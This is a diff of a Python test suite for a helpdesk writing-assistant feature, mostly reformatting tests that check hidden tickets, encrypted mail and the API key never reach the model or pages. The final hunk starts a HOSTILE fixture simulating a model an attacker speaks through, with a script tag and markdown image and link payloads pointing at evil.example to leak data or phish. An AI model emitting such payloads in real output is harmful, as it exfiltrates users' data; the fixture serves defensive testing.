@@ -1,5 +1,5 @@
-"""What leaves the house, and what never does: groups that are off, notes, attachments, encrypted mail, tickets of others,
-the key. And what comes back from a model that an attacker speaks through."""
+"""What leaves the house, and what never does: groups that are off, notes, attachments, encrypted mail, tickets of
+others, the key. And what comes back from a model that an attacker speaks through."""
 
 import json
 from typing import Any
@@ -47,13 +47,21 @@ def test_a_new_installation_offers_nothing(office: Office, ticket: dict[str, Any
 
 def test_sources_of_groups_that_are_off_stay(office: Office) -> None:
     hidden = office.ticket("Turbine vibrates", "The turbine vibrates and hums.", group_id=office.off)
-    form = {"kind": "reply", "message": str(hidden["message"]), "to": "ana@kite.example", "do": "save", "content": SECRET}
+    form = {
+        "kind": "reply",
+        "message": str(hidden["message"]),
+        "to": "ana@kite.example",
+        "do": "save",
+        "content": SECRET,
+    }
     office.visitor.send(f"{hidden['page']}/answer", form, page=hidden["page"])
-    brand = office.nora.create("brand", name="Secret pumps", host="secret.example", languages="en",
-                               group_ids=[office.off]).ok()["id"]  # fmt: skip
+    brand = office.nora.create(
+        "brand", name="Secret pumps", host="secret.example", languages="en", group_ids=[office.off]
+    ).ok()["id"]
     for status, more in (("draft", {}), ("internal", {}), ("published", {"brand_id": str(brand)})):
-        office.nora.create("kb_article", title="Turbine vibrates", content=f"{SECRET} {status}", format="text",
-                           status=status, **more).ok()  # fmt: skip
+        office.nora.create(
+            "kb_article", title="Turbine vibrates", content=f"{SECRET} {status}", format="text", status=status, **more
+        ).ok()
     ticket = office.ticket("My turbine", "The turbine vibrates and hums loudly.")
     call = office.run(ticket, "draft")
     assert SECRET not in office.model.sent and "SOURCE" not in office.model.sent
@@ -68,7 +76,13 @@ def test_sources_of_groups_that_are_off_stay(office: Office) -> None:
 def test_sources_that_the_worker_may_not_read_stay(office: Office) -> None:
     office.nora.update("group", office.off, writing_assistant="1").ok()
     hidden = office.ticket("Winch stuck", "The winch is stuck and grinds.", group_id=office.off)
-    form = {"kind": "reply", "message": str(hidden["message"]), "to": "ana@kite.example", "do": "save", "content": SECRET}
+    form = {
+        "kind": "reply",
+        "message": str(hidden["message"]),
+        "to": "ana@kite.example",
+        "do": "save",
+        "content": SECRET,
+    }
     office.visitor.send(f"{hidden['page']}/answer", form, page=hidden["page"])
     ticket = office.ticket("My winch", "The winch is stuck and grinds again.")
     office.run(ticket, "draft", office.signed_in("milo"))
@@ -111,8 +125,14 @@ Content-Disposition: attachment; filename="pay.txt"
 """
     made = office.nora.parse(mail).ok().json
     ticket = {**made, "path": f"/tickets/{made['mask']}/writing-assistant"}
-    message = office.nora.create("message", ticket_id=made["id"], content=f"{SECRET} encrypted", was_encrypted="1",
-                                 headers="From: ana@kite.example", sender="ana@kite.example").ok()["id"]  # fmt: skip
+    message = office.nora.create(
+        "message",
+        ticket_id=made["id"],
+        content=f"{SECRET} encrypted",
+        was_encrypted="1",
+        headers="From: ana@kite.example",
+        sender="ana@kite.example",
+    ).ok()["id"]
     office.run(ticket, "summarize")
     assert "See the file." in office.model.sent and SECRET not in office.model.sent
     response = office.start(ticket, "translate_message", message=str(message))
@@ -170,14 +190,14 @@ def test_switching_off_while_a_call_is_prepared_keeps_everything_in(
     assert office.model.requests == [] and office.desk.log(model_calls.POINT, target_id=ticket["id"]) == []
 
 
-# -- the log ---------------------------------------------------------------------------------------------------------------
+# -- the log -----------------------------------------------------------------------------------------------------------
 
 
 def test_each_call_is_in_the_activity_log_and_its_exact_text_on_a_page(office: Office, ticket: dict[str, Any]) -> None:
     office.run(ticket, "summarize")
     chars = sum(len(each["content"]) for each in office.model.completions[-1]["messages"])
     [entry] = office.desk.log(model_calls.POINT, target_id=ticket["id"])
-    said = json.dumps(entry["params"] if "params" in entry else entry, default=str)
+    said = json.dumps(entry.get("params", entry), default=str)
     assert str(chars) in said and MODEL in said and "Summarize" in said
     shown = text_of(office.visitor.get(ticket["page"]).text)
     assert f"used the writing assistant: Summarize, {chars} characters to 127.0.0.1" in shown
@@ -204,8 +224,15 @@ def test_the_key_is_shown_nowhere(office: Office, ticket: dict[str, Any], tmp_pa
     office.model.key = "another"
     call = office.run(ticket, "summarize")
     assert call["state"] == "failed" and "refused the key" in call["error"] and KEY not in json.dumps(call)
-    for path in (BASE, f"{BASE}/calls", f"{BASE}/calls/1", "/admin/system/audit", "/admin/system/log",
-                 "/admin/system/settings?q=writing", ticket["page"]):  # fmt: skip
+    for path in (
+        BASE,
+        f"{BASE}/calls",
+        f"{BASE}/calls/1",
+        "/admin/system/audit",
+        "/admin/system/log",
+        "/admin/system/settings?q=writing",
+        ticket["page"],
+    ):
         assert KEY not in office.visitor.get(path).text, path
     for uri in ("activity_log", "group", "ticket"):
         assert KEY not in office.nora.search(uri, "").response.text
@@ -215,7 +242,7 @@ def test_the_key_is_shown_nowhere(office: Office, ticket: dict[str, Any], tmp_pa
     assert "model_provider" not in PLAIN_TABLES and "model_call" not in PLAIN_TABLES, "an export leaves them out"
 
 
-# -- a model that an attacker speaks through --------------------------------------------------------------------------------
+# -- a model that an attacker speaks through ---------------------------------------------------------------------------
 
 HOSTILE = (
     "<script>alert(1)</script> ![x](https://evil.example/?q=secret) ![y][z] [click](https://evil.example/login)\n"
